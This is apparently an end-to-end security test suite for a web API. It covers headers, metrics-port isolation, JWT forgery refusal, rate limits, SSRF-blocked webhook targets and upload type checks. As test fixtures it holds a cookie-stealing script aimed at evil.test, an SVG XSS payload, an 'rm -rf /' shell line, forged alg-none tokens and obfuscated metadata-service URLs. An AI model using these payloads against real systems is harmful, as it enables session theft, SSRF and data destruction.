/**
 * Issue 12, "Security checks", against the real app. Where each check is proven:
 *
 * - Rate limits hold per principal.
 *   Already: test/boot.e2e-spec.ts "Rate limiting" (two users of one tenant, 429 problem+json, health
 *   never limited). Here: Retry-After, the same user id in another tenant, one budget per principal
 *   across routes, anonymous callers per IP, a spoofed X-Forwarded-For, a flood of bad tokens.
 * - The metrics port is not reachable through the API port.
 *   Already: test/platform-http.e2e-spec.ts "metrics" (GET /metrics on the API port is 404, the
 *   metrics port serves it). Here: other spellings of the path and methods on the API port, and no API
 *   route on the metrics port.
 * - Security headers present: here only.
 * - JWT `alg: none`, wrong signature, expired: refused.
 *   Already: test/platform-http.e2e-spec.ts "answers 401 for a forged, expired or claim-less token"
 *   (a changed signature, not a JWT, Basic scheme); test/boot.e2e-spec.ts "Tokens from an external
 *   identity provider" (JWKS: a stranger's key, a wrong issuer). Here: alg none (HS256 and JWKS
 *   setups), another secret, expired, not yet valid, HS512, a changed payload under the old
 *   signature, bad claims, HS256 issuer and audience, a token without expiry, and the published
 *   development secret in production.
 * - Webhook targets on private ranges refused in production mode.
 *   Already: test/notifications.e2e-spec.ts "refuses webhooks to loopback or private networks in
 *   production mode" (WEBHOOK_ALLOW_PRIVATE_TARGETS=false: 127.0.0.1, 10.0.0.5, localhost, ::1).
 *   Here: NODE_ENV=production alone, every private range, numeric and IPv4-mapped spellings, public
 *   targets accepted, and the second check at send time.
 * - Uploaded files never served with an executable content type.
 *   Already: test/ticket-attachments.e2e-spec.ts (a PDF served as application/pdf, attachment, nosniff;
 *   an .exe renamed .pdf and a PDF renamed .png refused with 415); src/modules/tickets/
 *   ticket-attachment-types.spec.ts (a configured type that cannot be verified fails the boot).
 *   Here: HTML, SVG, JavaScript and XHTML refused however they are named or labelled; markup inside an
 *   accepted type served as that type, as an attachment, with nosniff and a sandbox CSP.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { IncomingHttpHeaders, request as httpRequest } from 'node:http';
import { createServer, Server } from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exportJWK, generateKeyPair, KeyLike, SignJWT } from 'jose';
import request from 'supertest';
import { loadConfig } from '../src/platform/config/app-config';
import { startTestApp, TEST_JWT_SECRET, TestApp } from './support/app';
import { HttpStub, SmtpSink } from './support/peers';
import { waitFor } from './support/wait';

const PROBLEM = /^application\/problem\+json/;
/** Media types a browser would render or run rather than save. */
const EXECUTABLE_TYPE = /html|xml|svg|javascript|ecmascript|jscript|x-sh|vbscript/i;

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * One HTTP request, the path sent exactly as written (no URL normalisation) and, with `from`, from a
 * chosen loopback address (127.0.0.0/8 is all loopback on Linux), so tests can be different clients.
 */
function call(
  base: string,
  path: string,
  options: { method?: string; headers?: Record<string, string>; from?: string } = {},
): Promise<Answer> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        hostname: url.hostname,
        port: url.port,
        path,
        method: options.method ?? 'GET',
        headers: options.headers,
        localAddress: options.from,
        agent: false,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end();
  });
}

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const now = () => Math.floor(Date.now() / 1000);

/** An HS256 token with exactly the claims given (no defaults added). */
const hs = (secret: string, claims: Record<string, unknown>, alg: 'HS256' | 'HS512' = 'HS256') =>
  new SignJWT(claims).setProtectedHeader({ alg, typ: 'JWT' }).sign(new TextEncoder().encode(secret));

/** An unsigned token: `alg: none` and an empty signature. */
const unsigned = (claims: Record<string, unknown>, alg = 'none') =>
  `${b64url({ alg, typ: 'JWT' })}.${b64url(claims)}.`;

describe('Security checks (issue 12)', () => {
  describe('security headers on API answers', () => {
    let t: TestApp;
    beforeAll(async () => {
      t = await startTestApp();
    });
    afterAll(() => t.close());

    it('sends helmet headers on successes, problems, health and docs alike, and no X-Powered-By', async () => {
      const token = await t.token();
      const answers: Array<[string, request.Response]> = [
        [
          '200 /v1/me',
          await request(t.url).get('/v1/me').set('authorization', `Bearer ${token}`).expect(200),
        ],
        ['401 /v1/me', await request(t.url).get('/v1/me').expect(401)],
        ['404 unknown route', await request(t.url).get('/v1/no-such-route').expect(404)],
        [
          '400 malformed JSON',
          await request(t.url)
            .post('/v1/customers')
            .set('authorization', `Bearer ${token}`)
            .set('content-type', 'application/json')
            .send('{"name":')
            .expect(400),
        ],
        ['200 /health/live', await request(t.url).get('/health/live').expect(200)],
        ['200 /docs-json', await request(t.url).get('/docs-json').expect(200)],
      ];
      for (const [what, res] of answers) {
        const h = res.headers;
        expect([what, h['x-content-type-options']]).toEqual([what, 'nosniff']);
        // A frame policy: X-Frame-Options, or a CSP with frame-ancestors.
        const framePolicy =
          /^(DENY|SAMEORIGIN)$/i.test(String(h['x-frame-options'] ?? '')) ||
          /frame-ancestors/.test(String(h['content-security-policy'] ?? ''));
        expect([what, framePolicy]).toEqual([what, true]);
        const hsts = /max-age=(\d+)/.exec(String(h['strict-transport-security'] ?? ''));
        expect([what, Number(hsts?.[1] ?? 0) >= 15_552_000]).toEqual([what, true]); // at least 180 days
        expect([what, h['strict-transport-security']]).toEqual([
          what,
          expect.stringContaining('includeSubDomains'),
        ]);
        expect([what, h['referrer-policy']]).toEqual([what, 'no-referrer']);
        expect([what, h['x-permitted-cross-domain-policies']]).toEqual([what, 'none']);
        expect([what, h['cross-origin-opener-policy']]).toEqual([what, 'same-origin']);
        expect([what, h['x-powered-by']]).toEqual([what, undefined]);
        expect([what, h.server]).toEqual([what, undefined]);
      }
    });
  });

  describe('the metrics port', () => {
    let t: TestApp;
    beforeAll(async () => {
      t = await startTestApp();
    });
    afterAll(() => t.close());

    const metricsBase = () => new URL(t.metricsUrl).origin;

    it('is a different port, and no spelling of /metrics on the API port answers the metrics text', async () => {
      expect(new URL(t.metricsUrl).port).not.toBe(new URL(t.url).port);
      const text = await t.metrics();
      expect(text).toContain('# HELP process_cpu_user_seconds_total');
      const token = await t.token();
      for (const path of [
        '/metrics',
        '/metrics/',
        '/metrics?format=prometheus',
        '/METRICS',
        '//metrics',
        '/./metrics',
        '/%6Detrics',
        '/health/../metrics',
        '/v1/metrics',
        '/v1/../metrics',
      ]) {
        for (const headers of [{}, { authorization: `Bearer ${token}` }] as Array<Record<string, string>>) {
          for (const method of ['GET', 'HEAD', 'POST']) {
            const res = await call(t.url, path, { method, headers });
            expect([method, path, res.status >= 400]).toEqual([method, path, true]);
            expect(res.body).not.toContain('# HELP');
            expect(res.body).not.toContain('process_cpu_user_seconds_total');
          }
        }
      }
      // Not even with a Host header naming the metrics port.
      const hosted = await call(t.url, '/metrics', { headers: { host: new URL(t.metricsUrl).host } });
      expect(hosted.status).toBe(404);
      expect(hosted.body).not.toContain('# HELP');
    });

    it('serves no API route, health check or document, with or without a token', async () => {
      const token = await t.token();
      for (const path of [
        '/v1/me',
        '/v1/customers',
        '/health/live',
        '/health/ready',
        '/docs-json',
        '/docs',
        '/',
      ]) {
        for (const method of ['GET', 'POST']) {
          const res = await call(metricsBase(), path, {
            method,
            headers: { authorization: `Bearer ${token}` },
          });
          expect([method, path, res.status]).toEqual([method, path, 404]);
          expect(res.body).not.toContain('company_id');
        }
      }
      // Only GET /metrics answers there.
      expect((await call(metricsBase(), '/metrics', { method: 'POST' })).status).toBe(404);
      expect((await call(metricsBase(), '/metrics')).status).toBe(200);
    });
  });

  describe('JWT', () => {
    let t: TestApp;
    const companyA = randomUUID();
    const companyB = randomUUID();
    const claims = (extra: Record<string, unknown> = {}) => ({
      sub: 'user-1',
      company_id: companyA,
      roles: ['admin'],
      iat: now(),
      exp: now() + 600,
      ...extra,
    });
    const customersOf = async (companyId: string) =>
      Number(
        (await t.db.query('SELECT count(*) FROM customers WHERE company_id = $1', [companyId])).rows[0].count,
      );

    /** The token reaches nothing: reads and writes answer 401 problems, and nothing is written. */
    async function refused(what: string, token: string): Promise<void> {
      const auth = { authorization: `Bearer ${token}` };
      const me = await request(t.url).get('/v1/me').set(auth);
      expect([what, me.status, me.headers['content-type']]).toEqual([
        what,
        401,
        expect.stringMatching(PROBLEM),
      ]);
      expect(me.body.type).toMatch(/unauthorized$/);
      expect(JSON.stringify(me.body)).not.toContain(companyA);
      const list = await request(t.url).get('/v1/customers').set(auth);
      expect([what, list.status]).toEqual([what, 401]);
      const write = await request(t.url)
        .post('/v1/customers')
        .set(auth)
        .send({ name: 'Intruder', email: `i${randomUUID().slice(0, 8)}@example.com`, currency: 'KES' });
      expect([what, write.status]).toEqual([what, 401]);
    }

    beforeAll(async () => {
      t = await startTestApp();
    });
    afterAll(() => t.close());

    it('accepts a well-formed HS256 token (the control for every refusal below)', async () => {
      const res = await request(t.url)
        .get('/v1/me')
        .set('authorization', `Bearer ${await hs(TEST_JWT_SECRET, claims())}`)
        .expect(200);
      expect(res.body).toMatchObject({ user_id: 'user-1', company_id: companyA, roles: ['admin'] });
    });

    it('refuses alg none in every spelling, with or without a signature', async () => {
      const body = claims();
      const signed = await hs(TEST_JWT_SECRET, body);
      for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
        await refused(`alg ${alg}`, unsigned(body, alg));
        // alg none carrying the signature of a valid token.
        await refused(
          `alg ${alg} + signature`,
          `${b64url({ alg, typ: 'JWT' })}.${b64url(body)}.${signed.split('.')[2]}`,
        );
      }
      await refused('no alg', `${b64url({ typ: 'JWT' })}.${b64url(body)}.`);
      expect(await customersOf(companyA)).toBe(0);
    });

    it('refuses a wrong signature, another algorithm, and a changed payload under the old signature', async () => {
      await refused('another secret', await hs(`other-${TEST_JWT_SECRET}`, claims()));
      await refused('HS512 with the right secret', await hs(TEST_JWT_SECRET, claims(), 'HS512'));
      await refused(
        'RS256 header on an HMAC',
        `${b64url({ alg: 'RS256', typ: 'JWT' })}.${b64url(claims())}.${(await hs(TEST_JWT_SECRET, claims())).split('.')[2]}`,
      );

      const [header, payload, signature] = (await hs(TEST_JWT_SECRET, claims())).split('.');
      const original = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>;
      await refused(
        'company changed',
        `${header}.${b64url({ ...original, company_id: companyB })}.${signature}`,
      );
      await refused(
        'roles raised',
        `${header}.${b64url({ ...original, roles: ['admin', 'manager'] })}.${signature}`,
      );
      await refused(
        'expiry extended',
        `${header}.${b64url({ ...original, exp: now() + 86_400 * 365 })}.${signature}`,
      );
      await refused('signature dropped', `${header}.${payload}.`);
      await refused('signature empty', `${header}.${payload}`);
      expect(await customersOf(companyA)).toBe(0);
      expect(await customersOf(companyB)).toBe(0);
    });

    it('refuses an expired token and one not yet valid', async () => {
      await refused(
        'expired a minute ago',
        await hs(TEST_JWT_SECRET, claims({ iat: now() - 3660, exp: now() - 60 })),
      );
      await refused('not valid for an hour', await hs(TEST_JWT_SECRET, claims({ nbf: now() + 3600 })));
    });

    it('refuses tokens whose claims do not make a principal', async () => {
      const base = claims();
      const without = (key: string) => Object.fromEntries(Object.entries(base).filter(([k]) => k !== key));
      await refused('no subject', await hs(TEST_JWT_SECRET, without('sub')));
      await refused('no company', await hs(TEST_JWT_SECRET, without('company_id')));
      await refused('company not a uuid', await hs(TEST_JWT_SECRET, claims({ company_id: 'acme' })));
      await refused('no roles', await hs(TEST_JWT_SECRET, without('roles')));
      await refused('empty roles', await hs(TEST_JWT_SECRET, claims({ roles: [] })));
      await refused('unknown role', await hs(TEST_JWT_SECRET, claims({ roles: ['superuser'] })));
      await refused(
        'customer without customer_id',
        await hs(TEST_JWT_SECRET, claims({ roles: ['customer'] })),
      );
    });

    it('refuses a token that never expires', async () => {
      // A stolen token without `exp` would be good forever; the service must insist on an expiry.
      const { exp: _exp, ...forever } = claims();
      await refused('no exp', await hs(TEST_JWT_SECRET, forever));
    });

    it('checks the issuer and audience of HS256 tokens when they are configured', async () => {
      const strict = await startTestApp({
        // The api role only: the check needs no workers, and the app lives for a second.
        env: { APP_ROLE: 'api', JWT_ISSUER: 'https://custops.test', JWT_AUDIENCE: 'custops-api' },
      });
      try {
        const get = (token: string) =>
          request(strict.url).get('/v1/me').set('authorization', `Bearer ${token}`);
        const good = { iss: 'https://custops.test', aud: 'custops-api' };
        await get(await hs(TEST_JWT_SECRET, claims(good))).expect(200);
        for (const [what, extra] of [
          ['wrong issuer', { ...good, iss: 'https://evil.test' }],
          ['wrong audience', { ...good, aud: 'another-api' }],
          ['no issuer', { aud: 'custops-api' }],
          ['no audience', { iss: 'https://custops.test' }],
        ] as const) {
          const res = await get(await hs(TEST_JWT_SECRET, claims(extra)));
          expect([what, res.status]).toEqual([what, 401]);
          expect(res.headers['content-type']).toMatch(PROBLEM);
        }
      } finally {
        await strict.close();
      }
      // Boots an app of its own: slow when the whole suite shares the machine.
    }, 180_000);

    describe('in production with an identity provider (JWKS)', () => {
      /** The development secret app-config.ts falls back to; it is in the public source. */
      const DEV_JWT_SECRET = 'custops-dev-only-secret-do-not-use-in-production';
      let jwks: Server;
      let jwksUrl: string;
      let providerKey: KeyLike;

      beforeAll(async () => {
        const provider = await generateKeyPair('RS256');
        providerKey = provider.privateKey;
        const jwk = { ...(await exportJWK(provider.publicKey)), kid: 'k1', alg: 'RS256', use: 'sig' };
        jwks = createServer((_req, res) =>
          res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [jwk] })),
        );
        await new Promise<void>((resolve) => jwks.listen(0, '127.0.0.1', resolve));
        jwksUrl = `http://127.0.0.1:${(jwks.address() as { port: number }).port}/jwks.json`;
      });
      afterAll(() => new Promise((resolve) => jwks.close(resolve)));

      const productionEnv = () => ({
        NODE_ENV: 'production',
        JWT_JWKS_URL: jwksUrl,
        JWT_SECRET: '', // not set: the service falls back to its development default
        PAYMENT_GATEWAY_SECRET: `gw-${randomBytes(16).toString('hex')}`,
        BANK_ACCOUNT_ENCRYPTION_KEY: randomBytes(32).toString('base64'),
      });

      it('refuses alg none and accepts only the provider', async () => {
        const app = await startTestApp({ env: { ...productionEnv(), JWT_SECRET: TEST_JWT_SECRET } });
        try {
          const body = claims();
          const fromProvider = await new SignJWT({ company_id: companyA, roles: ['admin'] })
            .setProtectedHeader({ alg: 'RS256', kid: 'k1' })
            .setSubject('idp-user')
            .setExpirationTime('5m')
            .sign(providerKey);
          await request(app.url).get('/v1/me').set('authorization', `Bearer ${fromProvider}`).expect(200);
          for (const token of [
            unsigned(body),
            unsigned(body, 'NONE'),
            `${b64url({ alg: 'none', kid: 'k1' })}.${b64url(body)}.${fromProvider.split('.')[2]}`,
            `${b64url({ alg: 'RS256', kid: 'k1' })}.${b64url(body)}.${fromProvider.split('.')[2]}`,
          ]) {
            const res = await request(app.url).get('/v1/me').set('authorization', `Bearer ${token}`);
            expect(res.status).toBe(401);
            expect(res.headers['content-type']).toMatch(PROBLEM);
          }
        } finally {
          await app.close();
        }
      });

      it('never accepts tokens signed with the published development secret', async () => {
        // Either the service refuses to start without a JWT_SECRET of its own, or it refuses such tokens.
        const env = productionEnv();
        try {
          loadConfig(env);
        } catch (error) {
          expect(String(error)).toMatch(/JWT_SECRET/);
          return;
        }
        const app = await startTestApp({ env });
        try {
          const forged = await hs(DEV_JWT_SECRET, claims({ roles: ['admin'] }));
          const res = await request(app.url).get('/v1/me').set('authorization', `Bearer ${forged}`);
          expect(res.status).toBe(401);
        } finally {
          await app.close();
        }
      });
    });
  });

  describe('rate limits', () => {
    const LIMIT = 3;
    let t: TestApp;
    beforeAll(async () => {
      t = await startTestApp({ env: { RATE_LIMIT_MAX: String(LIMIT), RATE_LIMIT_TTL_MS: '60000' } });
    });
    afterAll(() => t.close());

    const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
    const expectLimited = (what: string, res: Answer) => {
      expect([what, res.status]).toEqual([what, 429]);
      expect(res.headers['content-type']).toMatch(PROBLEM);
      expect((JSON.parse(res.body) as { type: string }).type).toMatch(/rate-limited$/);
      const retryAfter = Number(res.headers['retry-after']);
      expect([what, Number.isInteger(retryAfter) && retryAfter >= 1 && retryAfter <= 60]).toEqual([
        what,
        true,
      ]);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
    };

    it('gives each principal its own budget: another user, and the same user id in another tenant', async () => {
      const companyA = randomUUID();
      const first = await t.token({ companyId: companyA, userId: 'same-user' });
      for (let i = 0; i < LIMIT; i += 1)
        expect((await call(t.url, '/v1/me', { headers: bearer(first) })).status).toBe(200);
      expectLimited('over budget', await call(t.url, '/v1/me', { headers: bearer(first) }));
      // The same user id in another company is another principal.
      const otherTenant = await t.token({ companyId: randomUUID(), userId: 'same-user' });
      expect((await call(t.url, '/v1/me', { headers: bearer(otherTenant) })).status).toBe(200);
      // A fresh token for the limited principal does not reset its budget.
      const again = await t.token({ companyId: companyA, userId: 'same-user' });
      expectLimited('fresh token, same principal', await call(t.url, '/v1/me', { headers: bearer(again) }));
      // Changing client address does not either: the budget follows the principal.
      expectLimited(
        'other address',
        await call(t.url, '/v1/me', { headers: bearer(again), from: '127.0.0.9' }),
      );
    });

    it('counts a principal once across routes, so spreading requests over endpoints gains nothing', async () => {
      const token = await t.token({ companyId: randomUUID(), userId: 'spreader' });
      for (let i = 0; i < LIMIT; i += 1)
        expect((await call(t.url, '/v1/me', { headers: bearer(token) })).status).toBe(200);
      expectLimited('another route', await call(t.url, '/v1/customers', { headers: bearer(token) }));
    });

    it('limits anonymous callers per IP address', async () => {
      const path = `/v1/kb/${randomUUID()}/articles`; // public: anonymous readers
      for (let i = 0; i < LIMIT; i += 1)
        expect((await call(t.url, path, { from: '127.0.0.2' })).status).toBe(200);
      expectLimited('anonymous flood', await call(t.url, path, { from: '127.0.0.2' }));
      // Another address has its own budget.
      expect((await call(t.url, path, { from: '127.0.0.3' })).status).toBe(200);
    });

    it('does not let an anonymous caller mint fresh budgets with X-Forwarded-For', async () => {
      const path = `/v1/kb/${randomUUID()}/articles`;
      const statuses: number[] = [];
      for (let i = 0; i < LIMIT + 3; i += 1) {
        const res = await call(t.url, path, {
          from: '127.0.0.4',
          headers: { 'x-forwarded-for': `203.0.113.${i + 1}` },
        });
        statuses.push(res.status);
      }
      expect(statuses.filter((status) => status === 200).length).toBeLessThanOrEqual(LIMIT);
      expect(statuses).toContain(429);
    });

    it('limits a flood of requests with missing or invalid tokens per IP address', async () => {
      const statuses: number[] = [];
      for (let i = 0; i < LIMIT + 3; i += 1) {
        const headers: Record<string, string> = i % 2 === 0 ? { authorization: `Bearer guess-${i}` } : {};
        statuses.push((await call(t.url, '/v1/me', { from: '127.0.0.5', headers })).status);
      }
      expect(statuses.slice(0, LIMIT)).toEqual(Array(LIMIT).fill(401));
      expect(statuses.slice(LIMIT)).toEqual(Array(3).fill(429));
    });
  });

  describe('webhook targets in production mode (NODE_ENV=production, no override)', () => {
    let t: TestApp;
    let hooks: HttpStub;
    const companyId = randomUUID();
    let admin: string;

    beforeAll(async () => {
      hooks = await new HttpStub().start();
      t = await startTestApp({
        env: {
          NODE_ENV: 'production',
          PAYMENT_GATEWAY_SECRET: `gw-${randomBytes(16).toString('hex')}`,
          BANK_ACCOUNT_ENCRYPTION_KEY: randomBytes(32).toString('base64'),
        },
      });
      expect(t.config.allowsPrivateWebhookTargets).toBe(false);
      await t.db.query(`INSERT INTO companies (id, name) VALUES ($1, 'Acme')`, [companyId]);
      admin = await t.token({ companyId, roles: ['admin'] });
    });
    afterAll(async () => {
      await t.close();
      await hooks.stop();
    });

    const register = (url: string) =>
      request(t.url)
        .post('/v1/webhooks')
        .set('authorization', `Bearer ${admin}`)
        .send({ url, event_types: ['CustomerCreated'] });
    const stored = async (url: string) =>
      Number(
        (await t.db.query('SELECT count(*) FROM webhook_endpoints WHERE url = $1', [url])).rows[0].count,
      );

    it.each([
      ['10/8', 'http://10.1.2.3/hook'],
      ['172.16/12 low', 'https://172.16.0.1/hook'],
      ['172.16/12 high', 'https://172.31.255.254/hook'],
      ['192.168/16', 'http://192.168.1.10:8080/hook'],
      ['loopback', 'http://127.0.0.1/hook'],
      ['loopback, elsewhere in 127/8', 'http://127.5.6.7/hook'],
      ['this network', 'http://0.0.0.0/hook'],
      ['cloud metadata (link-local)', 'http://169.254.169.254/latest/meta-data/'],
      ['carrier-grade NAT', 'http://100.64.0.1/hook'],
      ['IPv6 loopback', 'http://[::1]/hook'],
      ['IPv6 unspecified', 'http://[::]/hook'],
      ['IPv6 unique local', 'http://[fd00::1]/hook'],
      ['IPv6 link-local', 'http://[fe80::1]/hook'],
      ['localhost by name', 'http://localhost:9/hook'],
      ['loopback as one decimal number', 'http://2130706433/hook'],
      ['loopback in hex and short form', 'http://0x7f.1/hook'],
      ['metadata in octal', 'http://0251.0376.0251.0376/hook'],
      ['IPv4-mapped IPv6 loopback', 'http://[::ffff:127.0.0.1]/hook'],
      ['IPv4-mapped IPv6 10/8', 'http://[::ffff:10.0.0.5]/hook'],
      ['IPv4-mapped IPv6 metadata', 'http://[::ffff:169.254.169.254]/hook'],
    ])('refuses %s (%s) with a 400 naming the url, storing nothing', async (_what, url) => {
      const res = await register(url);
      expect([url, res.status]).toEqual([url, 400]);
      expect(res.headers['content-type']).toMatch(PROBLEM);
      expect(res.body.errors).toEqual([expect.objectContaining({ field: 'url' })]);
      expect(await stored(url)).toBe(0);
    });

    it('accepts public addresses, next door to the private ranges included', async () => {
      for (const url of [
        'https://93.184.215.14/hooks/custops',
        'https://172.32.0.1/hook',
        'https://11.0.0.1/hook',
        'https://[2606:4700:4700::1111]/hook',
      ]) {
        const res = await register(url);
        expect([url, res.status]).toEqual([url, 201]);
        await request(t.url)
          .delete(`/v1/webhooks/${res.body.id}`)
          .set('authorization', `Bearer ${admin}`)
          .expect(204);
      }
    });

    it.each([
      // As if the name resolved to a public address when registered and to a private one now.
      ['loopback', '/rebound', (port: string) => `http://127.0.0.1:${port}/rebound`],
      // The same stub through the IPv4-mapped IPv6 spelling, which reaches 127.0.0.1 just the same.
      ['IPv4-mapped loopback', '/mapped', (port: string) => `http://[::ffff:127.0.0.1]:${port}/mapped`],
    ])('checks again at send time: an endpoint at %s is never called', async (_what, path, urlAt) => {
      const url = urlAt(new URL(hooks.url()).port);
      const endpoint = await t.db.query<{ id: string }>(
        `INSERT INTO webhook_endpoints (company_id, url, secret, event_types)
         VALUES ($1, $2, 'whsec_test', ARRAY['CustomerCreated']) RETURNING id`,
        [companyId, url],
      );
      const id = endpoint.rows[0].id;
      await request(t.url)
        .post('/v1/customers')
        .set('authorization', `Bearer ${admin}`)
        .send({ name: 'Wanjiru', email: `w${randomUUID().slice(0, 8)}@example.com`, currency: 'KES' })
        .expect(201);
      const delivery = await waitFor(
        async () => {
          const res = await request(t.url)
            .get(`/v1/webhooks/${id}/deliveries`)
            .set('authorization', `Bearer ${admin}`)
            .expect(200);
          const done = (
            res.body.data as Array<{ status: string; attempts_log: Array<{ error: string | null }> }>
          ).find((d) => d.status === 'failed' || d.status === 'sent');
          return done;
        },
        { what: 'webhook delivery settled', timeoutMs: 20_000 },
      );
      await t.db.query('UPDATE webhook_endpoints SET active = false WHERE id = $1', [id]);
      expect(hooks.requests.filter((r) => r.path === path)).toHaveLength(0);
      expect(delivery.status).toBe('failed');
      expect(delivery.attempts_log.map((a) => a.error).join(' ')).toMatch(/private network/);
    });
  });

  describe('uploaded files', () => {
    let t: TestApp;
    let smtp: SmtpSink;
    let storageDir: string;
    const companyId = randomUUID();
    let agent: string;
    let customer: string;

    const upload = (content: Buffer | string, filename: string, contentType: string) =>
      request(t.url)
        .post('/v1/tickets/attachments')
        .set('authorization', `Bearer ${customer}`)
        .attach('file', Buffer.from(content), { filename, contentType });
    const attachmentRows = async () =>
      Number((await t.db.query('SELECT count(*) FROM ticket_attachments')).rows[0].count);

    /** Attaches an accepted upload to a new ticket and downloads it as the customer would. */
    async function served(uploadId: string): Promise<Answer> {
      const ticket = await request(t.url)
        .post('/v1/tickets')
        .set('authorization', `Bearer ${customer}`)
        .send({ subject: 'Look', description: 'Attached', category: 'billing', attachment_ids: [uploadId] })
        .expect(201);
      return call(t.url, `/v1/tickets/${ticket.body.id}/attachments/${uploadId}`, {
        headers: { authorization: `Bearer ${customer}` },
      });
    }

    beforeAll(async () => {
      smtp = await new SmtpSink().start();
      storageDir = await mkdtemp(join(tmpdir(), 'custops-security-'));
      t = await startTestApp({ env: { SMTP_URL: smtp.url, STORAGE_DIR: storageDir } });
      agent = await t.token({ companyId, roles: ['agent'] });
      const created = await request(t.url)
        .post('/v1/customers')
        .set('authorization', `Bearer ${agent}`)
        .send({ name: 'Uploader', email: `u${randomUUID().slice(0, 8)}@example.com`, currency: 'KES' })
        .expect(201);
      customer = await t.token({ companyId, roles: ['customer'], customerId: created.body.id as string });
    });
    afterAll(async () => {
      await t.close();
      await smtp.stop();
      await rm(storageDir, { recursive: true, force: true });
    });

    const HTML = '<!doctype html><html><body><script>fetch("/v1/me")</script></body></html>\n';
    const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>\n';
    const JS = 'document.location = "https://evil.test/?c=" + document.cookie;\n';

    it.each([
      ['HTML as HTML', HTML, 'evil.html', 'text/html'],
      ['HTML (.htm) as text', HTML, 'evil.htm', 'text/plain'],
      ['HTML without a type', HTML, 'evil.html', 'application/octet-stream'],
      ['XHTML', HTML, 'evil.xhtml', 'application/xhtml+xml'],
      ['SVG as SVG', SVG, 'x.svg', 'image/svg+xml'],
      ['SVG named and labelled PNG', SVG, 'x.png', 'image/png'],
      ['JavaScript', JS, 'run.js', 'application/javascript'],
      ['JavaScript as text/javascript', JS, 'run.mjs', 'text/javascript'],
      ['HTML named .txt but sent as text/html', HTML, 'notes.txt', 'text/html'],
      ['text named .txt but sent as JavaScript', JS, 'notes.txt', 'application/javascript'],
      ['shell script', '#!/bin/sh\nrm -rf /\n', 'run.sh', 'application/x-sh'],
    ])('refuses %s with 415, keeping nothing', async (_what, content, filename, contentType) => {
      const before = await attachmentRows();
      const res = await upload(content, filename, contentType);
      expect([filename, contentType, res.status]).toEqual([filename, contentType, 415]);
      expect(res.headers['content-type']).toMatch(PROBLEM);
      expect(res.body.type).toMatch(/\/attachment-(type-not-allowed|content-mismatch)$/);
      expect(await attachmentRows()).toBe(before);
    });

    it.each([
      ['markup inside a text file', HTML, 'notes.txt', 'text/plain', 'text/plain; charset=utf-8'],
      [
        'markup inside a text file sent without a type',
        SVG,
        'notes.txt',
        'application/octet-stream',
        'text/plain; charset=utf-8',
      ],
      [
        'a script inside a CSV',
        `name,cmd\nx,"${JS.trim().replace(/"/g, '""')}"\n`,
        'data.csv',
        'text/csv',
        'text/csv; charset=utf-8',
      ],
      [
        'markup after a GIF header',
        `GIF89a\x01\x00\x01\x00\x00\x00\x00;${HTML}`,
        'pixel.gif',
        'image/gif',
        'image/gif',
      ],
    ])(
      'serves %s as its verified safe type, as an attachment, never rendered',
      async (_what, content, filename, contentType, servedType) => {
        const uploaded = await upload(content, filename, contentType).expect(201);
        const file = await served(uploaded.body.id as string);
        expect(file.status).toBe(200);
        expect(file.headers['content-type']).toBe(servedType);
        expect(file.headers['content-type']).not.toMatch(EXECUTABLE_TYPE);
        expect(file.headers['content-disposition']).toBe(`attachment; filename="${filename}"`);
        expect(file.headers['x-content-type-options']).toBe('nosniff');
        expect(file.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
        expect(file.body).toBe(content);
      },
    );
  });
});
